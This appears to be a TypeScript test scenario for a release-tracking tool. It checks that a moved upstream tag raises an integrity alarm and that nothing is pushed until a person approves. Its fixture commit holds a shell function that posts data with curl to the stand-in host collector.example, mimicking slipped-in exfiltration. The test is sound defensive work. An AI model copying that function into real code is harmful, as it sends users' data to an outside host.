import { attemptOf, release, untilAsked, untilEnded, untilWatch } from '../stage/attempts.ts'
import { demandCandidate, demandRemotes, demandStack } from '../stage/evidence.ts'
import { demand, demandSame } from '../stage/expect.ts'
import { demandRecorded } from '../stage/recorded.ts'
import type { Scenario, Stage } from '../stage/scenario.ts'
import type { Change } from '../world/change.ts'
import { upstreamName } from '../world/config.ts'
import { git } from '../world/git.ts'
import { moveTag } from '../world/repositories.ts'

const first = 'v1.1.0'
const tag = 'v1.2.0'

const slippedIn: Change = {
  subject: 'Send the totals home',
  files: { 'lib/home.sh': 'send_home() {\n  curl --data "$1" https://collector.example\n}\n' },
}

export const tagMoved: Scenario = {
  name: 'tag-moved',
  title: 'a tag that moves while an attempt runs: nothing goes out before a person lets it go',
  push: false,
  // The watch does not look in between: what notices is the attempt's own look right before the push.
  poll: '1h',
  company: 'others',
  async play(stage) {
    const { installation, fork, repositories } = stage
    await release(stage, first, 'small')
    await installation.cli('poll', upstreamName(fork))
    await untilAsked(stage, first, 'approval')
    demandSame('the first is approved', (await installation.cli('approve', attemptOf(stage, first))).code, 0)
    const before = await demandCandidate(stage, await untilEnded(stage, first, 'changed'))

    const old = await release(stage, tag, 'clean')
    await installation.cli('poll', upstreamName(fork))
    const ready = await untilAsked(stage, tag, 'approval')
    const moved = await moveTag(repositories, tag, slippedIn)
    demandSame('the push is approved', (await installation.cli('approve', attemptOf(stage, tag))).code, 0)
    const alarm = await untilAsked(stage, tag, 'tag-moved', ready)
    const evidence = (alarm.intervention?.evidence ?? []).join('\n')
    for (const shown of [old.commit, moved.commit, slippedIn.subject, 'collector.example', 'git -C ']) {
      demand(`the evidence shows ${shown}`, evidence.includes(shown), evidence)
    }
    demandSame('`undrift run` ends with 7 while it waits', (await installation.cli('run', fork, tag)).code, 7)
    const inbox = await installation.cli('inbox')
    demand('`undrift inbox` shows the alarm', inbox.stdout.includes('Integrity alarm'), inbox)
    await demandRemotes(stage, { [first]: before })

    demandSame(
      '`undrift approve` lets it go',
      (await installation.cli('approve', attemptOf(stage, tag))).code,
      0,
    )
    const again = await untilAsked(stage, tag, 'approval', alarm)
    demandSame('it stands on what the tag is now', again.onto, moved.commit)
    demandSame(
      '`undrift approve` is taken',
      (await installation.cli('approve', attemptOf(stage, tag))).code,
      0,
    )
    const shown = await untilEnded(stage, tag, 'changed', again)
    const head = await demandCandidate(stage, shown, stage.maintained, { [first]: before })
    await demandStack(stage, shown, moved)
    const { decisions } = await demandRecorded(stage, tag, shown)
    const tagObject = await git(repositories.upstream, ['rev-parse', `refs/tags/${tag}`])
    demandSame(
      'the ledger keeps who let what go',
      decisions.map(({ name, letGo: taken }) => [name, taken?.need, taken?.tagObject]),
      [
        ['approve', undefined, undefined],
        ['approve', 'tag-moved', tagObject],
        ['approve', undefined, undefined],
      ],
    )
    await demandAlarmOfWatch(stage, tagObject)
    return { tags: [first, tag], candidates: { [first]: before, [tag]: head }, maintained: stage.maintained }
  },
}

/** Nothing runs for the tag any more: the watch's own alarm shows what moved, until a person lets that go, too. */
async function demandAlarmOfWatch(stage: Stage, tagObject: string): Promise<void> {
  const { installation, fork } = stage
  const upstream = upstreamName(fork)
  await installation.cli('poll', upstream)
  await untilWatch(stage, ({ alarms }) => alarms.some(({ evidence }) => evidence !== undefined))
  const inbox = await installation.cli('inbox')
  for (const shown of ['integrity alarm', slippedIn.subject, 'collector.example', tagObject, 'git -C ']) {
    demand(`\`undrift inbox\` shows ${shown}`, inbox.stdout.includes(shown), inbox)
  }
  demandSame('it is not let go unseen', (await installation.cli('release', upstream)).code, 7)
  demandSame('it is let go', (await installation.cli('release', upstream, '--accept', tagObject)).code, 0)
  await untilWatch(stage, ({ alarms }) => alarms.length === 0)
}
